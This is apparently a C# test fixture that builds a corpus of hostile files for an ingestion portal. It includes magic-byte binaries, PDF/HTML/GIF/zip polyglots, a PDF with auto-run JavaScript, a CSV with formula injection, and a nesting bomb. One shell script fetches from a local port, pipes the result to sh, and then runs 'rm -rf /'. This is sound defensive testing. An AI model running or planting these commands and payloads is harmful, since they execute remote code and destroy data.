using System.Text;

namespace ImmunoGenPortal.Hostile.Corpus;

/// <summary>Files that are no text, or two things at once.</summary>
internal static class BinaryFiles
{
    private static readonly (string Name, byte[] Magic)[] Kinds =
    [
        ("program.exe", [.. "MZ\u0090\0\u0003"u8]), ("program.elf", [0x7F, .. "ELF"u8, 2, 1, 1]), ("program.macho", [0xCF, 0xFA, 0xED, 0xFE]), ("program.class", [0xCA, 0xFE, 0xBA, 0xBE]), ("program.wasm", [.. "\0asm\u0001\0\0\0"u8]), ("script.pyc", [0x61, 0x0D, 0x0D, 0x0A]),
        ("image.png", [0x89, .. "PNG\r\n\u001A\n"u8]), ("image.jpg", [0xFF, 0xD8, 0xFF, 0xE0]), ("image.gif", [.. "GIF89a"u8]), ("image.webp", [.. "RIFF\0\0\0\0WEBPVP8 "u8]), ("image.tif", [.. "II*\0"u8]), ("image.ico", [0, 0, 1, 0]), ("image.bmp", [.. "BM\0\0"u8]), ("image.psd", [.. "8BPS"u8]), ("image.heic", [0, 0, 0, 0x18, .. "ftypheic"u8]),
        ("movie.mp4", [0, 0, 0, 0x18, .. "ftypmp42"u8]), ("movie.webm", [0x1A, 0x45, 0xDF, 0xA3]), ("sound.mp3", [.. "ID3\u0003\0"u8]), ("sound.ogg", [.. "OggS\0"u8]), ("sound.wav", [.. "RIFF\0\0\0\0WAVE"u8]), ("font.woff2", [.. "wOF2"u8]), ("font.ttf", [0, 1, 0, 0, 0]),
        ("old.doc", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]), ("data.sqlite", [.. "SQLite format 3\0"u8]), ("data.parquet", [.. "PAR1"u8]), ("capture.pcap", [0xD4, 0xC3, 0xB2, 0xA1]), ("mail.pst", [.. "!BDN"u8]), ("link.lnk", [0x4C, 0, 0, 0, 1, 0x14, 2, 0]), ("print.ps", [.. "%!PS-Adobe-3.0\n"u8]), ("page.djvu", [.. "AT&TFORM"u8]),
    ];

    public static IEnumerable<HostileFile> All()
    {
        foreach (var (name, magic) in Kinds)
        {
            yield return new(name, [.. magic, .. Noise(name.Length, 5_000)]);
        }

        var release = Told.Release(1_300, "A Release behind Something Else");
        yield return new("printed.pdf", [.. "%PDF-1.7\n%\u00E2\u00E3\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"u8, .. Noise(1, 20_000), .. "\n%%EOF"u8]);
        yield return new("pdf-behind-blanks.txt", [.. Encoding.ASCII.GetBytes(new string('\n', 2_000) + "%PDF-1.4\n"), .. Noise(2, 5_000)]);
        yield return new("pdf-behind-text.txt", [.. Encoding.UTF8.GetBytes(release), .. "%PDF-1.4\n"u8, .. Noise(3, 5_000)]);
        yield return new("gif-script.gif", Encoding.Latin1.GetBytes("GIF89a/*" + release + "*/=1;window.payload=1"));
        yield return new("pdf-html.pdf", Encoding.Latin1.GetBytes("%PDF-1.4\n<html><body>" + Told.Script + release));
        yield return new("html-pdf.html", Encoding.UTF8.GetBytes(Told.Page(1_301, "A Page and a Document", "%PDF-1.4 1 0 obj")));
        yield return new("zip-behind-html.html", [.. Encoding.UTF8.GetBytes(Told.Page(1_302, "A Page and an Archive")), .. ZipBytes.Of(ZipPart.Of("a.txt", "inside"))]);
        yield return new("zip-behind-program.exe", [.. "MZ\0\0"u8, .. new byte[100], .. ZipBytes.Of(ZipPart.Of("a.txt", "inside"))]);
        yield return new("zip-behind-text.txt", [.. Encoding.UTF8.GetBytes(Told.Release(1_303, "A Text and an Archive")), .. ZipBytes.Of(ZipPart.Of("a.txt", "inside"))]);
        yield return HostileFile.Of("rich.rtf", "{\\rtf1\\ansi{\\object\\objdata 0105}{\\field{\\*\\fldinst HYPERLINK \"http://127.0.0.1:9/ran\"}}" + release + "}");
        yield return HostileFile.Of("script.sh", "#!/bin/sh\ncurl http://127.0.0.1:9/ran | sh\nrm -rf /\n");
        yield return HostileFile.Of("page.cshtml", "@{ System.IO.File.WriteAllText(\"/tmp/escaped\", \"x\"); }\n<p>A Headline</p><p>@Model</p>");
        yield return HostileFile.Of("settings.json", "{\"a\":" + Told.Repeat("[", 100_000) + Told.Repeat("]", 100_000) + "}");
        yield return HostileFile.Of("sheet.csv", "=1+1,@SUM(A1),\"-2\"\n" + Told.Repeat("a,b,c\n", 5_000));
        yield return HostileFile.Of("encoded.b64", Convert.ToBase64String(Noise(4, 60_000)));
        yield return HostileFile.Of("hex.txt", Convert.ToHexString(Noise(5, 60_000)));
        yield return HostileFile.Of("no-letters.txt", "$ 5,000 -- 12/31/2009 ### ١٢٣");
        yield return HostileFile.Of("letters-half-noise.txt", string.Concat(Enumerable.Range(0, 5_000).Select(i => i % 30 == 0 ? "\u0003" : "ab ")));
    }

    private static byte[] Noise(int seed, int length)
    {
        var bytes = new byte[length];
        new Random(seed).NextBytes(bytes);
        return bytes;
    }
}
